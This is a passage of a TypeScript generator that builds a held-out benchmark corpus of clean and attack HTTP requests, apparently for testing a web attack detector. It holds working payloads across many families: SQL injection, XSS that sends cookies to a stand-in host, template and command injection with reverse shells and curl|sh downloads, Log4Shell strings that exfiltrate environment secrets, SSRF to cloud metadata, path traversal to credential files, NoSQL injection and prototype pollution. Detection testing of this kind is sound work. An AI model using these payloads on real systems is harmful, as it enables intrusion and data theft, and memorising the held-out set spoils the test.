    'merge-patch body',
    (p, f) => ({
      kind: 'merge-patch',
      method: 'PATCH',
      path: `/hr/api/v1/reviews/${uuid()}`,
      headers: jsonH('application/merge-patch+json'),
      body: JSON.stringify({ sections: { growth: { [f]: p } }, draft: true }),
    }),
  ],
  [
    'JSON:API attribute',
    (p, f) => ({
      kind: 'jsonapi',
      method: 'POST',
      path: '/jsonapi/dataset-comments',
      headers: jsonH('application/vnd.api+json'),
      body: JSON.stringify({ data: { type: 'dataset-comments', attributes: { [f]: p, author: person() } } }),
    }),
  ],
  [
    'ndjson line',
    (p, f) => ({
      kind: 'ndjson',
      method: 'POST',
      path: '/pricing/v3/ingest/competitor-rates',
      headers: jsonH('application/x-ndjson'),
      body: `${JSON.stringify({ competitor: 'Motel One', date: day(), rate: 99 })}\n${JSON.stringify({ competitor: 'The Standard', date: day(), [f]: p })}\n`,
    }),
  ],
  [
    'JSON object key',
    (p) => ({
      kind: 'rest-write',
      method: 'PUT',
      path: `/v1/orgs/${uuid()}/custom-fields`,
      headers: jsonH(),
      body: JSON.stringify({ labels: { [p]: 'value', region: 'EU' } }),
    }),
  ],
  [
    'URL path segment',
    (p) => ({
      kind: 'rest-get',
      method: 'GET',
      path: `/makerspace/api/files/${p}`,
      headers: hdrs(),
      body: '',
    }),
  ],
  [
    'multipart filename',
    (p) => {
      const m = multipart(
        { bookingId: uuid() },
        { name: p, field: 'photo', type: 'image/jpeg', content: `\u00ff\u00d8\u00ff\u00e0JFIF${hex(16)}` },
      );
      return {
        kind: 'multipart',
        method: 'POST',
        path: '/api/bookings/attachments',
        headers: hdrs({ 'content-type': m.ct }),
        body: m.body,
      };
    },
  ],
  [
    'user-agent / x-api-version header',
    (p) => ({
      kind: 'rest-get',
      method: 'GET',
      path: `/v2/airspace/advisories?${qs({ lat: 37.7749, lon: -122.4194 })}`,
      headers: { ...hdrs(), [pick(['user-agent', 'x-api-version'])]: p },
      body: '',
    }),
  ],
  [
    'open-data SoQL $where',
    (p) => ({
      kind: 'rest-get',
      method: 'GET',
      path: `/resource/${pick(DATASET_IDS)}.json?${qs({ $select: 'borough, count(*)', $where: `status = 'Open' AND ${p}`, $limit: 100 })}`,
      headers: hdrs({}, { auth: false }),
      body: '',
    }),
  ],
  [
    'JSON-patch value',
    (p, f) => ({
      kind: 'json-patch',
      method: 'PATCH',
      path: `/api/salons/${int(100, 999)}/services/${int(1, 80)}`,
      headers: jsonH('application/json-patch+json'),
      body: JSON.stringify([{ op: 'replace', path: `/${f}`, value: p }]),
    }),
  ],
];
function gqlAttack(p: string, f: string): Draft {
  return {
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    headers: jsonH(),
    body: JSON.stringify({
      operationName: 'Search',
      query: 'query Search($filter: SearchFilter!) { search(filter: $filter) { id title } }',
      variables: { filter: { [f]: p, limit: 20 } },
    }),
  };
}

function emitFamily(
  family: string,
  payloads: readonly Payload[],
  fields: readonly string[],
  carriers: readonly number[],
): void {
  for (let i = 0; i < 30; i++) {
    const pl = payloads[i % payloads.length];
    const c = CARRIERS[carriers[i % carriers.length] ?? 0];
    if (!pl || !c) throw new Error('bad plan');
    const d = c[1](pl[1], pick(fields));
    addAttack({ ...d, family, technique: `${pl[0]} via ${c[0]}` });
  }
}

const OAST = 'k7q2.oast.example';

const SQL: Payload[] = [
  ['tautology', "' OR '1'='1' -- "],
  ['union select credentials', '0 UNION SELECT username, password_hash, NULL FROM staff_users--'],
  ['stacked drop table', "x'); DROP TABLE bookings;--"],
  ['time-based MySQL', "1' AND SLEEP(5)#"],
  ['time-based Postgres', "1) AND (SELECT 1 FROM pg_sleep(5))::text='1"],
  ['error-based extractvalue', "' AND extractvalue(1,concat(0x7e,(SELECT @@version)))-- -"],
  ['MSSQL waitfor', "1';WAITFOR DELAY '0:0:5'--"],
  ['comment-spaced tautology', "admin'/**/OR/**/1=1/**/--"],
  [
    'mixed-case union with comments',
    '-1 UnIoN/**/SeLeCt null,table_name,null FrOm information_schema.tables--',
  ],
  ['cast error exfil', '1 AND 1=CAST((SELECT current_user) AS int)'],
  ['conditional pg_sleep', "' || (SELECT CASE WHEN (1=1) THEN pg_sleep(3) ELSE pg_sleep(0) END)--"],
  ['SoQL where breakout', '1=1) UNION SELECT email, ssn FROM employees WHERE (1=1'],
  [
    'order-by injection',
    "created_at,(SELECT CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1)='a' THEN 1 ELSE 1/0 END)",
  ],
  ['pg_read_file stacked', "1; SELECT pg_read_file('/etc/passwd')--"],
  ['boolean blind', "x' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64 AND 'a'='a"],
];
emitFamily(
  'sql',
  SQL,
  ['sort', 'stylistId', 'orderBy', 'site', 'where', 'employeeId', 'searchTerm'],
  [6, 16, 0, 5, 2, 3, 4, 7, 8, 10, 16, 11, 1, 17],
);

const XSS: Payload[] = [
  ['script tag', '<script>fetch("https://k7q2.oast.example/c?"+document.cookie)</script>'],
  ['img onerror', '<img src=x onerror=alert(document.domain)>'],
  ['svg onload slash-separated', "<svg/onload=location='//k7q2.oast.example/?'+document.cookie>"],
  ['javascript: URI', 'javascript:alert(document.cookie)//'],
  ['attribute breakout iframe', '"><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['entity-obfuscated javascript href', '<a href="jav&#x09;ascript:alert(1)">portfolio</a>'],
  ['mXSS math/style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['svg animate onbegin', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  ['autofocus onfocus', '<input autofocus onfocus=eval(atob("YWxlcnQoZG9jdW1lbnQuY29va2llKQ=="))>'],
  ['data URI object', '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'],
  ['body onpageshow', '<body onpageshow=alert(1)>'],
  ['js string breakout', "';alert(String.fromCharCode(88,83,83))//"],
  ['case-mixed script', '<ScRiPt src=//k7q2.oast.example/x.js></sCrIpT>'],
  ['video source onerror', '<video><source onerror="import(\'//k7q2.oast.example/m.js\')">'],
];
emitFamily(
  'xss',
  XSS,
  ['displayName', 'bio', 'caption', 'comment', 'title', 'websiteUrl', 'note'],
  [0, 1, 2, 10, 9, 5, 3, 8, 11, 4, 17, 6, 14],
);

const TEMPLATE: Payload[] = [
  ['Jinja2 config globals', "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"],
  ['Jinja2 MRO subclasses', "{{''.__class__.__mro__[1].__subclasses__()}}"],
  ['Jinja2 cycler', "{{cycler.__init__.__globals__.os.popen('cat /etc/passwd').read()}}"],
  [
    'Jinja2 attr filter hex',
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')}}",
  ],
  [
    'Node constructor chain',
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
  ],
  ['Spring EL Runtime', "${T(java.lang.Runtime).getRuntime().exec('id')}"],
  ['Thymeleaf selection expr', "*{T(java.lang.Runtime).getRuntime().exec('whoami')}"],
  ['FreeMarker Execute', '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'],
  [
    'Velocity forName',
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))",
  ],
  ['ERB backticks', '<%= `id` %>'],
  ['Jinja2 lipsum', "{{lipsum.__globals__['os'].popen('uname -a').read()}}"],
  ['Smarty php tag', "{php}system('id');{/php}"],
  ['Twig filter callback', "{{['id']|filter('system')}}"],
  [
    'Pug code block',
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('id')}()}",
  ],
  ['Razor process start', '@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))'],
];
emitFamily(
  'template',
  TEMPLATE,
  ['greeting', 'emailTemplate', 'subject', 'reportTitle', 'signature', 'footer'],
  [0, 3, 2, 5, 4, 6, 9, 10, 11, 17, 1, 8],
);

const COMMAND: Payload[] = [
  ['semicolon chain', 'photo.jpg; cat /etc/passwd'],
  ['netcat reverse shell', 'example.com | nc 10.13.37.5 4444 -e /bin/sh'],
  ['command substitution curl|sh', '$(curl -s http://k7q2.oast.example/s.sh|sh)'],
  ['backtick substitution', 'report-`id`.pdf'],
  ['wget drop & exec', '8.8.8.8 && wget http://k7q2.oast.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x'],
  ['IFS space evasion', ';cat${IFS}/etc/shadow'],
  ['newline injection', 'export.csv\nid > /tmp/pwn'],
  ['bash /dev/tcp', 'a; bash -i >& /dev/tcp/10.13.37.5/443 0>&1'],
  [
    'python reverse shell',
    'x; python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("10.13.37.5",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
  ],
  [
    'powershell encoded',
    '& powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
  ],
  ['quote-split evasion', "; c'a't /e't'c/pas's'wd"],
  ['glob wildcard evasion', ';/???/??t /???/p??s??'],
  ['or-chain ping', '|| ping -c 10 127.0.0.1 ||'],
  ['ffmpeg arg injection', '-i input.mp4 -f lavfi -i "movie=/etc/passwd" ; id'],
  ['nslookup oast exfil', 'drone.local; nslookup `whoami`.k7q2.oast.example'],
];
emitFamily(
  'command',
  COMMAND,
  ['filename', 'pingHost', 'convertArgs', 'exportName', 'hostname', 'gpioPin'],
  [0, 2, 4, 6, 9, 7, 3, 11, 17, 8, 1, 5, 14],
);

const LOG4SHELL: Payload[] = [
  ['plain jndi ldap', `\${jndi:ldap://${OAST}/a}`],
  ['lower lookup obfuscation', `\${\${lower:j}ndi:\${lower:l}dap://${OAST}/b}`],
  ['default-value obfuscation', `\${\${::-j}\${::-n}\${::-d}\${::-i}:\${::-r}mi://${OAST}/c}`],
  ['dns exfil of env secret', `\${jndi:dns://\${env:AWS_SECRET_ACCESS_KEY}.${OAST}}`],
  [
    'env default obfuscation',
    `\${\${env:NOPE:-j}ndi\${env:NOPE:-:}\${env:NOPE:-l}dap\${env:NOPE:-:}//${OAST}/d}`,
  ],
  ['upper lookup', `\${\${upper:j}ndi:ldaps://${OAST}/e}`],
  ['sys property exfil', `\${jndi:ldap://\${sys:java.version}.${OAST}/f}`],
  ['iiop scheme', `\${jndi:iiop://${OAST}:1050/g}`],
  ['date lookup obfuscation', `\${\${date:'j'}\${date:'n'}\${date:'d'}\${date:'i'}:ldap://${OAST}/h}`],
  ['nested hostName', `\${jndi:ldap://\${hostName}.${OAST}/i}`],
];
emitFamily(
  'log4shell',
  LOG4SHELL,
  ['deviceName', 'userAgentOverride', 'comment', 'pilotName', 'referenceCode'],
  [15, 7, 0, 6, 15, 2, 3, 4, 5, 8, 11, 1, 10, 12, 9],
);

const SSRF: Payload[] = [
  ['AWS metadata IMDS', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
  ['IPv4-mapped IPv6 metadata', 'http://[::ffff:169.254.169.254]/latest/user-data'],
  ['decimal IP metadata', 'http://2852039166/latest/meta-data/'],
  ['hex loopback redis', 'http://0x7f000001:6379/'],
  ['gopher to redis', 'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A'],
  [
    'GCP metadata',
    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
  ],
  ['file scheme', 'file:///etc/passwd'],
  ['docker API short loopback', 'http://127.1:2375/containers/json'],
  ['dict scheme memcached', 'dict://localhost:11211/stats'],
  ['userinfo confusion', 'https://files.skypermit.example@169.254.169.254/latest/meta-data/'],
  ['octal loopback admin', 'http://0177.0.0.1:8080/admin'],
  ['AWS IPv6 IMDS', 'http://[fd00:ec2::254]/latest/meta-data/'],
  ['Alibaba metadata', 'http://100.100.100.200/latest/meta-data/'],
  ['DNS-rebinding nip.io', 'http://169.254.169.254.nip.io/latest/meta-data/'],
  ['kubernetes API', 'https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets'],
];
emitFamily(
  'ssrf',
  SSRF,
  ['webhookUrl', 'callbackUrl', 'avatarUrl', 'importUrl', 'logoUrl', 'feedUrl'],
  [0, 3, 5, 6, 10, 2, 9, 4, 11, 17, 1, 8],
);

const TRAVERSAL: Payload[] = [
  ['dot-dot slash', '../../../../etc/passwd'],
  ['url-encoded', '..%2f..%2f..%2f..%2fetc%2fshadow'],
  ['double url-encoded', '%252e%252e%252f%252e%252e%252fetc%252fpasswd'],
  ['overlong utf-8', '%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd'],
  ['windows backslash', '..\\..\\..\\windows\\win.ini'],
  ['nested strip evasion', '....//....//....//etc/hosts'],
  ['null byte extension', '../../../../etc/passwd%00.png'],
  ['absolute proc environ', '/proc/self/environ'],
  ['app secrets', '../../../app/.env'],
  ['encoded backslash', '..%5c..%5c..%5cboot.ini'],
  ['kube token', '../../../../var/run/secrets/kubernetes.io/serviceaccount/token'],
  ['ssh key', '../../../../root/.ssh/id_rsa'],
];
emitFamily(
  'path-traversal',
  TRAVERSAL,
  ['attachmentPath', 'template', 'exportFile', 'avatar', 'logFile', 'include'],
  [13, 0, 6, 14, 3, 4, 2, 13, 9, 5, 17, 10, 11, 8, 14],
);

// NoSQL operator injection: payloads are objects, so they get their own carriers.
const NOSQL_OBJ: Array<[string, unknown]> = [
  ['$ne login bypass', { $ne: null }],
  ['$gt empty string', { $gt: '' }],
  ['$regex prefix enumeration', { $regex: '^a.*', $options: 'i' }],
  ['$where sleep', { $where: 'sleep(5000) || true' }],
  ['$nin empty array', { $nin: [] }],
  [
    '$expr $function JS',
    { $expr: { $function: { body: 'function(){ sleep(3000); return true; }', args: [], lang: 'js' } } },
  ],
  ['$exists true', { $exists: true }],
  ['$or always-true', [{}, { role: 'admin' }]],
];
const nosqlBuilders: Array<[string, () => Draft]> = [];
for (const [tech, obj] of NOSQL_OBJ) {
  nosqlBuilders.push([
    `${tech} via JSON login body`,
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/hr/api/v1/auth/login',
      headers: jsonH(),
      body: JSON.stringify(tech.startsWith('$or') ? { $or: obj } : { email: email(), password: obj }),
    }),
  ]);
}
const nosqlExtra: Array<[string, () => Draft]> = [
  [
    '$ne via query-string brackets',
    () => ({
      kind: 'rest-get',
      method: 'GET',
      path: `/api/bookings?customerEmail[$ne]=x&status[$ne]=cancelled`,
      headers: hdrs(),
      body: '',
    }),
  ],
  [
    '$where JS via query-string brackets',
    () => ({
      kind: 'rest-get',
      method: 'GET',
      path: `/makerspace/api/members?${qs({ 'filter[$where]': "this.role == 'admin' || sleep(2000)" })}`,
      headers: hdrs(),
      body: '',
    }),
  ],
  [
    '$regex via percent-encoded brackets',
    () => ({
      kind: 'rest-get',
      method: 'GET',
      path: '/club/api/mentors?email%5B%24regex%5D=%5Ea&token%5B%24gt%5D=',
      headers: hdrs(),
      body: '',
    }),
  ],
  [
    '$where string breakout',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/portal/api/queries',
      headers: jsonH(),
      body: JSON.stringify({
        dataset: 'council-votes',
        filter: { $where: "this.member == '' ; return true; var x = ''" },
      }),
    }),
  ],
  [
    '\\u0024-escaped operator key',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/api/auth/login',
      headers: jsonH(),
      body: `{"phone":"+14155550199","pin":{"\\u0024ne":"0000"}}`,
    }),
  ],
  [
    'operator in JSON-in-string filter',
    () => ({
      kind: 'rest-get',
      method: 'GET',
      path: `/v1/emission-factors?${qs({ filter: JSON.stringify({ source: { $regex: '.*' }, region: { $ne: null } }) })}`,
      headers: hdrs(),
      body: '',
    }),
  ],
  [
    '$where in GraphQL JSON scalar',
    () => gqlPostAttack({ where: { $where: 'function(){ return this.salary > 0 || sleep(3000) }' } }),
  ],
  [
    '$lookup aggregation stage',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/portal/api/datasets/restaurant-inspections/aggregate',
      headers: jsonH(),
      body: JSON.stringify({
        pipeline: [
          { $match: { score: { $lt: 70 } } },
          { $lookup: { from: 'users', localField: 'inspector', foreignField: '_id', as: 'creds' } },
          { $project: { 'creds.passwordHash': 1 } },
        ],
      }),
    }),
  ],
  [
    '$gt via form brackets',
    () => ({
      kind: 'form',
      method: 'POST',
      path: '/makerspace/login',
      headers: formH(),
      body: 'card=2000123456789&pin%5B%24gt%5D=',
    }),
  ],
  [
    '$ne nested in jsonapi filter',
    () => ({
      kind: 'jsonapi',
      method: 'GET',
      path: `/jsonapi/employees?${qs({ 'filter[salary][$gt]': '0', 'filter[manager][$ne]': 'null' })}`,
      headers: hdrs({}, { accept: 'application/vnd.api+json' }),
      body: '',
    }),
  ],
  [
    'base64 filter with $where',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/club/api/projects/search',
      headers: jsonH(),
      body: JSON.stringify({
        filterEncoding: 'base64',
        filterB64: b64(JSON.stringify({ $where: 'sleep(4000)' })),
      }),
    }),
  ],
  [
    '$regex in merge-patch',
    () => ({
      kind: 'merge-patch',
      method: 'PATCH',
      path: `/pricing/v3/properties/BERMI/users`,
      headers: jsonH('application/merge-patch+json'),
      body: JSON.stringify({ match: { email: { $regex: '^rev' } }, set: { role: 'admin' } }),
    }),
  ],
  [
    '$ne in ndjson line',
    () => ({
      kind: 'ndjson',
      method: 'POST',
      path: '/hr/api/v1/bulk/lookup',
      headers: jsonH('application/x-ndjson'),
      body: `${JSON.stringify({ employeeId: 1042 })}\n${JSON.stringify({ employeeId: { $ne: -1 } })}\n`,
    }),
  ],
];
function gqlPostAttack(variables: unknown): Draft {
  return {
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    headers: jsonH(),
    body: JSON.stringify({
      query: 'query Emp($where: JSON) { employees(where: $where) { id name salary } }',
      variables,
    }),
  };
}
const nosqlAll = [...nosqlBuilders, ...nosqlExtra];
for (let i = 0; i < 30; i++) {
  const b = nosqlAll[(i * 8) % nosqlAll.length];
  if (b) addAttack({ ...b[1](), family: 'nosql', technique: b[0] });
}

// Prototype pollution.
const PP: Array<[string, () => Draft]> = [
  [
    '__proto__ key in JSON body',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: `/api/salons/${int(100, 999)}/bookings`,
      headers: jsonH(),
      body: `{"customer":{"name":"${person()}"},"__proto__":{"isAdmin":true},"start":"${stamp()}"}`,
    }),
  ],
  [
    'nested __proto__ in settings',
    () => ({
      kind: 'rest-write',
      method: 'PUT',
      path: `/makerspace/api/members/${int(10000, 99999)}/settings`,
      headers: jsonH(),
      body: `{"notifications":{"email":true,"__proto__":{"role":"staff","canUnlockLaser":true}}}`,
    }),
  ],
  [
    'constructor.prototype in JSON',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/v1/orgs/settings',
      headers: jsonH(),
      body: JSON.stringify({ constructor: { prototype: { approved: true, shell: '/bin/sh' } } }),
    }),
  ],
  [
    '\\u-escaped __proto__ key',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/club/api/profile',
      headers: jsonH(),
      body: '{"nickname":"pixelpanda","\\u005f\\u005fproto\\u005f\\u005f":{"isMentor":true}}',
    }),
  ],
  [
    'query-string __proto__ brackets',
    () => ({
      kind: 'rest-get',
      method: 'GET',
      path: `/pricing/v3/properties/LAXDT/rates?arrival=${day()}&__proto__[isAdmin]=true`,
      headers: hdrs(),
      body: '',
    }),
  ],
  [
    'query-string constructor[prototype]',
    () => ({
      kind: 'rest-get',
      method: 'GET',
      path: '/portal/search?q=trees&constructor[prototype][outputFunctionName]=x;process.mainModule.require(%27child_process%27).execSync(%27id%27);s',
      headers: hdrs(),
      body: '',
    }),
  ],
  [
    'percent-encoded __proto__ in query',
    () => ({
      kind: 'rest-get',
      method: 'GET',
      path: '/hr/api/v1/employees?%5F%5Fproto%5F%5F%5Brole%5D=admin',
      headers: hdrs(),
      body: '',
    }),
  ],
  [
    'dotted path __proto__',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/hr/api/v1/preferences',
      headers: jsonH(),
      body: JSON.stringify({ path: '__proto__.isAdmin', value: true }),
    }),
  ],
  [
    'json-patch /__proto__ path',
    () => ({
      kind: 'json-patch',
      method: 'PATCH',
      path: `/hr/api/v1/employees/${int(1000, 9999)}`,
      headers: jsonH('application/json-patch+json'),
      body: JSON.stringify([{ op: 'add', path: '/__proto__/isAdmin', value: true }]),
    }),
  ],
  [
    'json-patch constructor/prototype path',
    () => ({
      kind: 'json-patch',
      method: 'PATCH',
      path: `/v1/orgs/${uuid()}/inventory/2025`,
      headers: jsonH('application/json-patch+json'),
      body: JSON.stringify([{ op: 'replace', path: '/constructor/prototype/verified', value: true }]),
    }),
  ],
  [
    'merge-patch __proto__',
    () => ({
      kind: 'merge-patch',
      method: 'PATCH',
      path: `/v2/flight-authorizations/${uuid()}`,
      headers: jsonH('application/merge-patch+json'),
      body: '{"status":"pending","__proto__":{"status":"approved","approvedBy":"system"}}',
    }),
  ],
  [
    'form field __proto__ brackets',
    () => ({
      kind: 'form',
      method: 'POST',
      path: '/makerspace/signup',
      headers: formH(),
      body: `name=${encodeURIComponent(person())}&__proto__%5Bstaff%5D=1&agree=on`,
    }),
  ],
  [
    'GraphQL variables __proto__',
    () => ({
      kind: 'graphql',
      method: 'POST',
      path: '/graphql',
      headers: jsonH(),
      body: '{"query":"mutation U($input: JSON!) { updateSalonSettings(input: $input) { ok } }","variables":{"input":{"__proto__":{"isOwner":true}}}}',
    }),
  ],
  [
    'JSON-in-string __proto__',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/portal/api/visualizations',
      headers: jsonH(),
      body: JSON.stringify({
        dataset: 'bike-counters',
        config: '{"chart":"line","__proto__":{"polluted":"yes"}}',
      }),
    }),
  ],
  [
    'array-wrapped __proto__',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/pricing/v3/rules/bulk',
      headers: jsonH(),
      body: '[{"name":"weekend"},{"__proto__":{"adjustPct":-90}}]',
    }),
  ],
  [
    'jsonapi attributes __proto__',
    () => ({
      kind: 'jsonapi',
      method: 'PATCH',
      path: `/jsonapi/equipment-bookings/${int(1, 99999)}`,
      headers: jsonH('application/vnd.api+json'),
      body: '{"data":{"type":"equipment-bookings","id":"77","attributes":{"__proto__":{"approved":true}}}}',
    }),
  ],
  [
    'base64 settings with __proto__',
    () => ({
      kind: 'rest-write',
      method: 'POST',
      path: '/club/api/import',
      headers: jsonH(),
      body: JSON.stringify({
        format: 'base64-json',
        data: b64('{"projects":[],"__proto__":{"isMentor":true}}'),
      }),
    }),
  ],
  [
    'constructor key via \\u escape',
    () => ({
      kind: 'rest-write',
      method: 'PUT',
      path: '/api/salons/settings',
      headers: jsonH(),
      body: '{"\\u0063onstructor":{"prototype":{"depositWaived":true}}}',
    }),
  ],
];
for (let i = 0; i < 30; i++) {
  const b = PP[(i * 5) % PP.length];
  if (b) addAttack({ ...b[1](), family: 'prototype-pollution', technique: b[0] });
}

/** Held-out corpus 32: clean traffic and attacks (see the header comment). */
export const heldout32: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean,
  attacks,
};

/** JSON body paths that legitimately carry rich-text HTML or source code; no attack is placed in them. */
export const HELDOUT32_EXCLUDE_FIELDS: string[] = [
  'body.page.bodyHtml',
  'body.submission.sourceCode',
  'body.notebook.cellSource',
];

function countBy(xs: readonly CorpusRequest[], key: 'kind' | 'family'): Record<string, number> {
  const out: Record<string, number> = {};
  for (const x of xs) {
    const k = x[key] ?? '?';
    out[k] = (out[k] ?? 0) + 1;
  }
  return out;
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const dir = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(dir, 'clean-heldout32.json'), `${JSON.stringify(clean, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks-heldout32.json'), `${JSON.stringify(attacks, null, 2)}\n`);
  console.log(`clean: ${clean.length}`, countBy(clean, 'kind'));
  console.log(`attacks: ${attacks.length}`, countBy(attacks, 'family'));
  console.log('attack kinds', countBy(attacks, 'kind'));
}
